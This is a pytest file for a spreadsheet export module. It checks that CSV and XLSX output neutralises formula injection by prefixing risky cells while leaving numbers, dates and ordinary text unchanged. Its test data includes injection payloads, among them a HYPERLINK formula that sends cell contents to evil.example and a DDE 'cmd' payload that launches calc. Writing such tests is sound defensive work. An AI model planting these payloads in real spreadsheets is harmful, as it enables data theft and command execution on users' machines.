"""Spreadsheet-safe exports: formula-like text is neutralised, everything else kept."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest

from academy.exports import (
    csv_chunks,
    neutralise,
    neutralise_frame,
    write_csv,
    write_xlsx,
)

RISKY = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
SAFE = ["Ann", "", " =1+1", "a=b", "ann@example.com", "1+1", "'=already"]


@pytest.mark.parametrize("value", RISKY)
def test_neutralise_prefixes_formula_like_strings(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", SAFE)
def test_neutralise_leaves_ordinary_strings(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, None, True, date(2024, 3, 1), b"=1"])
def test_neutralise_leaves_non_strings(value):
    assert neutralise(value) is value


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": ["=1+1", "Ann", "@team", None],
            "score": [-5, 10, 0, 7],
            "ratio": [-0.5, 1.0, 2.5, None],
            "mixed": pd.Series(["-x", 3, "ok", -4], dtype=object),
            "text": pd.Series(["+1", "a", pd.NA, "\tb"], dtype="string"),
            "team": pd.Categorical(["=A", "B", "=A", "B"]),
            "when": pd.to_datetime(["2024-01-01"] * 4),
        }
    )


def test_neutralise_frame_is_vectorised_per_text_column_and_copies():
    original = frame()
    snapshot = original.copy()
    safe = neutralise_frame(original)
    pd.testing.assert_frame_equal(original, snapshot)  # The input is untouched.
    assert safe["name"].tolist()[:3] == ["'=1+1", "Ann", "'@team"]
    assert safe["name"].isna().tolist() == [False, False, False, True]
    assert safe["mixed"].tolist() == ["'-x", 3, "ok", -4]
    assert safe["text"].tolist()[:2] == ["'+1", "a"]
    assert safe["text"].tolist()[3] == "'\tb"
    assert safe["team"].tolist() == ["'=A", "B", "'=A", "B"]
    # Numbers and dates are untouched, dtype and all.
    pd.testing.assert_series_equal(safe["score"], original["score"])
    pd.testing.assert_series_equal(safe["ratio"], original["ratio"])
    pd.testing.assert_series_equal(safe["when"], original["when"])


def test_neutralise_frame_covers_headers_and_number_only_object_columns():
    data = pd.DataFrame(
        {"=evil": ["x"], "ids": pd.Series([1], dtype=object), "ok": ["y"]}
    )
    safe = neutralise_frame(data)
    assert list(safe.columns) == ["'=evil", "ids", "ok"]
    assert safe["ids"].tolist() == [1]


def test_write_csv_neutralises_and_keeps_numbers():
    buffer = io.BytesIO()
    write_csv(frame(), buffer)
    raw = buffer.getvalue()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads UTF-8.
    assert b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "score", "ratio", "mixed", "text", "team", "when"]
    assert rows[1][:5] == ["'=1+1", "-5", "-0.5", "'-x", "'+1"]
    assert rows[2][3] == "3"
    assert rows[4][3] == "-4"
    assert rows[4][4] == "'\tb"
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    # Only genuine numbers may start with "-".
    for cell in cells:
        if cell.startswith("-"):
            float(cell)


def test_write_csv_to_a_text_stream():
    buffer = io.StringIO()
    write_csv(pd.DataFrame({"a": ["=x"]}), buffer, bom=False)
    assert buffer.getvalue() == "a\r\n'=x\r\n"


def test_write_xlsx_neutralises_and_keeps_numbers():
    buffer = io.BytesIO()
    write_xlsx(frame(), buffer, sheet_name="Learners: Q1/Q2 [draft] and more words")
    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    sheet = workbook.active
    assert sheet.title == "Learners  Q1 Q2  draft  and mor"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in types  # No cell is stored as a formula.
    assert values[1][:5] == ["'=1+1", -5, -0.5, "'-x", "'+1"]
    assert values[2][3] == 3
    assert values[4][3] == -4
    assert values[1][6].date() == date(2024, 1, 1)


def test_write_xlsx_copes_with_control_characters_and_time_zones():
    data = pd.DataFrame(
        {
            "text": ["a\x01b", "=x"],
            "at": pd.to_datetime(["2024-01-01 09:00"] * 2).tz_localize("UTC"),
        }
    )
    buffer = io.BytesIO()
    write_xlsx(data, buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet.title == "Export"
    assert [cell.value for cell in sheet["A"]] == ["text", "ab", "'=x"]
    assert sheet["B2"].value.hour == 9


def test_csv_chunks_give_the_same_bytes_as_one_write():
    frame = pd.DataFrame(
        {
            "Name": [f"=cmd{i}" if i % 7 == 0 else f"Learner {i}" for i in range(45)],
            "=HYPERLINK(1)": list(range(45)),
        }
    )
    whole = io.BytesIO()
    write_csv(frame, whole)
    chunks = list(csv_chunks(frame, chunk_rows=10))
    assert len(chunks) == 1 + 5  # the header, then five chunks of at most ten rows
    assert b"".join(chunks) == whole.getvalue()
    assert chunks[0].startswith("\ufeffName,'=HYPERLINK(1)".encode())


def test_csv_chunks_of_an_empty_frame_are_the_header_alone():
    frame = pd.DataFrame({"Name": [], "Score": []})
    assert b"".join(csv_chunks(frame)) == "\ufeffName,Score\r\n".encode()
